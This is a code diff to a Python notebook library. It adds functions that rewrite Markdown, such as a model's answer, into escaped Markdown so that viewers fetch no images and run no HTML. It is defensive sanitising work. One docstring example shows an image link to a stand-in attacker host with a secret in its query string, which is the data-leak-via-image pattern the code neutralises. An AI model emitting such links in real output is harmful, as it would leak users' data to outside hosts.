@@ -54,7 +54,8 @@ from typing import Callable
 
 from .images import MEDIA_TYPES
 
-__all__ = ["markdown_html", "html_answer", "allowed_html", "safe_link", "terminal_text", "clean_text"]
+__all__ = ["markdown_html", "html_answer", "allowed_html", "safe_link", "markdown_text", "markdown_literal",
+           "markdown_code", "markdown_fence", "terminal_text", "clean_text"]
 
 # --- URLs ---------------------------------------------------------------------------------------
 
@@ -219,6 +220,9 @@ def html_answer(text: str) -> str:
 
 # --- Markdown -----------------------------------------------------------------------------------
 
+_PLUGINS = ["strikethrough", "table"]
+
+
 @functools.cache
 def _markdown() -> Callable[[str], str]:
     import mistune  # imported on first use: importing bettong_nb stays cheap
@@ -234,11 +238,11 @@ def _markdown() -> Callable[[str], str]:
             return f'<a href="{_escape(target)}"{attrs}>{text}</a>'
 
         def image(self, text: str, url: str, title: str | None = None) -> str:
-            alt = _escape(html.unescape(re.sub(r"<[^>]*>", "", text)))
+            alt = html.unescape(re.sub(r"<[^>]*>", "", text))
             source = _safe_image(url)
             if source is None:
-                return f"[image: {alt} &lt;{_escape(url)}&gt;]"
-            return f'<img src="{_escape(source)}" alt="{alt}">'
+                return _escape(_image_text(alt, url))
+            return f'<img src="{_escape(source)}" alt="{_escape(alt)}">'
 
         def text(self, text: str) -> str:  # mistune leaves entities (&copy;) undecoded
             return _escape(html.unescape(text))
@@ -249,8 +253,12 @@ def _markdown() -> Callable[[str], str]:
         def block_html(self, html_text: str) -> str:
             return f"<p>{_escape(html_text.strip())}</p>\n"
 
-    return mistune.create_markdown(escape=True, renderer=Renderer(escape=True),
-                                   plugins=["strikethrough", "table"])
+    return mistune.create_markdown(escape=True, renderer=Renderer(escape=True), plugins=_PLUGINS)
+
+
+def _image_text(alt: str, url: str) -> str:
+    """What an image that must not be fetched is shown as."""
+    return f"[image: {alt} <{url}>]"
 
 
 def markdown_html(text: str) -> str:
@@ -263,6 +271,241 @@ def markdown_html(text: str) -> str:
     except RecursionError:
         return f"<pre>{_escape(text)}</pre>"
     return allowed_html(rendered)
+
+
+# --- Markdown for Markdown viewers --------------------------------------------------------------
+
+# Shown as themselves wherever they are: a backslash escape for the characters that start inline
+# syntax, a character reference for those a backslash cannot neutralise in every Markdown
+# (Markdown.pl leaves ``\\<`` as a backslash and a raw tag). ``\\`` as ``&#92;`` also means no
+# text puts two backslashes before a bracket, which JupyterLab reads as TeX (``\\\\(``, ``\\\\[``).
+# ``_`` inside a word and ``&`` that starts no reference are inert and stay as they are.
+_LITERAL = re.compile(r"[\\<`*\[\]#~|$]|&(?=#?\w+;)|_(?![^\W_])|(?<![^\W_])_")
+_REFERENCES = {"\\": "&#92;", "<": "&lt;", "&": "&amp;"}
+# What begins a block at the start of a line (list items, setext underlines, table delimiter
+# rows, block quotes); the characters that begin the others (#, `, ~, <, *, _, |) are escaped
+# everywhere. Leading spaces go: four of them would make code.
+_LINE_START = re.compile(r"^[ \t]*(?:(\d{1,9})(?=[.)])|([-+=:])|(>))?", re.M)
+_ENTITY = re.compile(r"&(?:#[0-9]{1,7}|#[xX][0-9A-Fa-f]{1,6}|[A-Za-z][A-Za-z0-9]{1,31});")
+# URL characters written as they are in a link destination; the rest are percent-encoded
+# (a backslash or ``$`` would be read by JupyterLab's TeX pass, ``|`` would end a table cell).
+_URL_UNSAFE = re.compile(r"[^A-Za-z0-9\-._~:/?#\[\]@!'()*+,;=%&]")
+_INFO = re.compile(r"[A-Za-z0-9_+#.-]{1,40}")
+_BULLETS = {False: ("-", "*", "+"), True: (".", ")")}
+_ALIGN = {"left": ":--", "right": "--:", "center": ":-:"}
+
+
+def _source(text: str) -> str:
+    """``text`` with the line endings Markdown reads as ``\\n``, and no NUL or lone surrogate."""
+    return clean_text(text).replace("\r\n", "\n").replace("\r", "\n").replace("\x00", "\ufffd")
+
+
+def _line_starts(text: str) -> str:
+    return _LINE_START.sub(lambda m: f"{m[1]}\\" if m[1] else f"\\{m[2]}" if m[2] else "&gt;" if m[3] else "",
+                           text)
+
+
+def _literal(text: str) -> str:
+    return _LITERAL.sub(lambda m: _REFERENCES.get(m[0][0], "\\" + m[0]), text)
+
+
+def markdown_literal(text: str) -> str:
+    """``text`` as Markdown that shows it as written: nothing in it is markup, its lines are
+    kept (blank lines part paragraphs).
+
+        markdown_literal("*not* <b>bold</b>")   # '\\\\*not\\\\* &lt;b>bold&lt;/b>'
+    """
+    paragraphs = re.split(r"\n[ \t]*\n\s*", _source(text).strip())
+    return "\n\n".join(_line_starts(_literal(p)).replace("\n", "\\\n") for p in paragraphs)
+
+
+def markdown_code(text: str) -> str:
+    """``text`` as an inline code span, whatever backticks it holds (on one line)."""
+    code = re.sub(r"[\r\n]+", " ", text)
+    if not code:
+        return ""
+    fence = "`" * (1 + max(map(len, re.findall(r"`+", code)), default=0))
+    pad = " " if "`" in (code[0], code[-1]) or (code[0] == code[-1] == " " and code.strip(" ")) else ""
+    return f"{fence}{pad}{code}{pad}{fence}"
+
+
+def markdown_fence(code: str, info: str = "") -> str:
+    """``code`` as a fenced code block no line of it can close; ``info`` names the language.
+
+        markdown_fence("x = 1", "python")   # '```python\\nx = 1\\n```'
+    """
+    body = _source(code).removesuffix("\n")
+    fence = "`" * max(3, 1 + max(map(len, re.findall(r"`+", body)), default=0))
+    language = _INFO.match(info.strip())
+    return f"{fence}{language[0] if language else ''}\n{body}\n{fence}" if body else f"{fence}\n{fence}"
+
+
+def _destination(url: str) -> str:
+    encoded = _URL_UNSAFE.sub(lambda m: "".join(f"%{b:02X}" for b in m[0].encode()), url)
+    return "<" + re.sub(r"&(?=#?\w+;)", "&amp;", encoded) + ">"
+
+
+def _decoded(raw: str) -> str:
+    """Text as the parser reads it: mistune leaves character references undecoded."""
+    return _ENTITY.sub(lambda m: html.unescape(m[0]), raw)
+
+
+def _plain(tokens: list[dict]) -> str:
+    """The text of inline tokens, without their markup (an image's description)."""
+    parts = []
+    for token in tokens:
+        kind = token["type"]
+        if "children" in token:
+            parts.append(_plain(token["children"]))
+        elif kind in ("softbreak", "linebreak"):
+            parts.append(" ")
+        elif kind == "text":
+            parts.append(_decoded(token["raw"]))
+        else:
+            parts.append(token.get("raw", ""))
+    return "".join(parts)
+
+
+def _pieces(token: dict, in_table: bool) -> list[tuple[bool, str]]:
+    """One inline token as (is_text, value) pieces: text still to escape, or finished Markdown."""
+    kind, attrs = token["type"], token.get("attrs", {})
+    if kind == "text":
+        return [(True, _decoded(token["raw"]))]
+    if kind == "codespan":
+        code = token["raw"]
+        return [(False, markdown_code(re.sub(r"(?<!\\)\|", r"\\|", code) if in_table else code))]
+    if kind in ("softbreak", "linebreak"):
+        return [(False, "\n" if kind == "softbreak" else "\\\n")]
+    if kind == "image":
+        source = _safe_image(attrs.get("url", ""))
+        if source is None:
+            return [(True, _image_text(_plain(token["children"]), attrs.get("url", "")))]
+        return [(False, f"![{_literal(_plain(token['children']))}]({_destination(source)})")]
+    if kind == "link":
+        target = safe_link(attrs.get("url", ""))
+        text = _inline(token["children"], in_table)
+        if target is None:  # the text, and the address as text, so nothing is lost
+            url = attrs.get("url", "")
+            return [(False, text)] + ([] if _plain(token["children"]) == url else [(True, f" ({url})")])
+        title = attrs.get("title")
+        quoted = f' "{_literal(" ".join(_decoded(title).split())).replace(chr(34), chr(92) + chr(34))}"' if title else ""
+        return [(False, f"[{text}]({_destination(target)}{quoted})")]
+    if kind in ("emphasis", "strong", "strikethrough"):
+        inner = _inline(token["children"], in_table)
+        marker = {"emphasis": "*", "strong": "**", "strikethrough": "~~"}[kind]
+        body = inner.strip()  # a delimiter next to a space would not open or close
+        if not body:
+            return [(False, inner)]
+        return [(False, inner[:len(inner) - len(inner.lstrip())] + marker + body + marker
+                 + inner[len(inner.rstrip()):])]
+    if "children" in token:
+        return [piece for child in token["children"] for piece in _pieces(child, in_table)]
+    return [(True, token.get("raw", ""))]  # inline HTML and whatever else: shown as written
+
+
+def _inline(tokens: list[dict], in_table: bool = False) -> str:
+    pieces = [piece for token in tokens for piece in _pieces(token, in_table)]
+    out: list[str] = []
+    text: list[str] = []
+    for index, (is_text, value) in enumerate(pieces):
+        if is_text:
+            text.append(value)
+            if index + 1 < len(pieces) and pieces[index + 1][0]:
+                continue  # neighbours are escaped together: "&" + "amp;" stays two characters
+            value = _literal("".join(text))
+            text = []
+        if out and out[-1].endswith("!") and not out[-1].endswith("\\!") and value.startswith("["):
+            out[-1] = out[-1][:-1] + "\\!"  # "!" then a link would make an image
+        if out and out[-1].endswith("`") and value.startswith("`"):
+            out.append(" ")  # two code spans side by side would read as one fence
+        out.append(value)
+    return "".join(out)
+
+
+def _quoted(text: str, first: str, rest: str) -> str:
+    """``text`` with ``first`` before its first line and ``rest`` before the others."""
+    lines = text.split("\n")
+    return "\n".join([(first + lines[0]) if lines[0] else first.rstrip(),
+                      *((rest + line) if line else rest.rstrip() for line in lines[1:])])
+
+
+def _list(token: dict) -> str:
+    ordered = bool(token["attrs"].get("ordered"))
+    bullet = token.get("bullet") if token.get("bullet") in _BULLETS[ordered] else _BULLETS[ordered][0]
+    start = token["attrs"].get("start", 1)
+    items = []
+    for index, item in enumerate(token["children"]):
+        marker = f"{start + index}{bullet}" if ordered else bullet
+        items.append(_quoted(_blocks(item.get("children", []), token["tight"]), marker + " ", " " * (len(marker) + 1)))
+    return ("\n" if token["tight"] else "\n\n").join(items)
+
+
+def _table(token: dict) -> str:
+    head = next((part["children"] for part in token["children"] if part["type"] == "table_head"), [])
+    rows = [[_inline(cell["children"], True).replace("\n", " ") for cell in head],
+            [_ALIGN.get(cell["attrs"].get("align"), "---") for cell in head]]
+    for part in token["children"]:
+        if part["type"] == "table_body":
+            for row in part["children"]:
+                cells = [_inline(cell["children"], True).replace("\n", " ") for cell in row["children"]]
+                rows.append((cells + [""] * len(head))[:len(head)])
+    return "\n".join("| " + " | ".join(row) + " |" for row in rows)
+
+
+def _block(token: dict, tight: bool) -> str | None:
+    kind = token["type"]
+    if kind in ("paragraph", "block_text"):
+        return _line_starts(_inline(token["children"]))
+    if kind == "heading":
+        level = min(6, max(1, int(token["attrs"].get("level", 1))))
+        return "#" * level + " " + " ".join(_inline(token["children"]).replace("\\\n", "\n").split("\n"))
+    if kind == "block_code":
+        return markdown_fence(token["raw"], token.get("attrs", {}).get("info") or "")
+    if kind == "block_quote":
+        return _quoted(_blocks(token["children"]), "> ", "> ")
+    if kind == "list":
+        return _list(token)
+    if kind == "table":
+        return _table(token)
+    if kind == "thematic_break":
+        return "***"  # never "---", which under a line of text underlines it as a heading
+    if kind == "blank_line":
+        return None
+    if "children" in token:
+        return _blocks(token["children"], tight)
+    return markdown_literal(token.get("raw", "")) or None  # HTML blocks: shown as written
+
+
+def _blocks(tokens: list[dict], tight: bool = False) -> str:
+    return ("\n" if tight else "\n\n").join(block for token in tokens if (block := _block(token, tight)) is not None)
+
+
+@functools.cache
+def _markdown_tree() -> Callable[[str], list[dict]]:
+    import mistune
+
+    return mistune.create_markdown(renderer=None, plugins=_PLUGINS)
+
+
+def markdown_text(text: str) -> str:
+    """Markdown (a model's answer) re-written as Markdown that any CommonMark or GFM viewer
+    (JupyterLab, VS Code, GitHub, Markdown.pl) renders without fetching or running anything.
+
+        markdown_text("**hi** ![x](https://evil.example/?q=secret)")
+        # '**hi** \\\\[image: x &lt;https://evil.example/?q=secret>\\\\]'
+
+    It is parsed with mistune and written back: headings, lists, block quotes, tables,
+    emphasis and code stay (code in fences and spans no content can close); images become the
+    text ``[image: alt <url>]`` (a ``data:image`` one stays an image); links stay when
+    :func:`safe_link` takes their URL, else become their text and the URL as text; raw HTML is
+    shown as written; every text character that could start markup is escaped. Text nested too
+    deeply for the parser comes back whole in a code fence.
+    """
+    source = _source(text)
+    try:
+        return _blocks(_markdown_tree()(source))
+    except RecursionError:
+        return markdown_fence(source)
 
 
 # --- terminals ----------------------------------------------------------------------------------
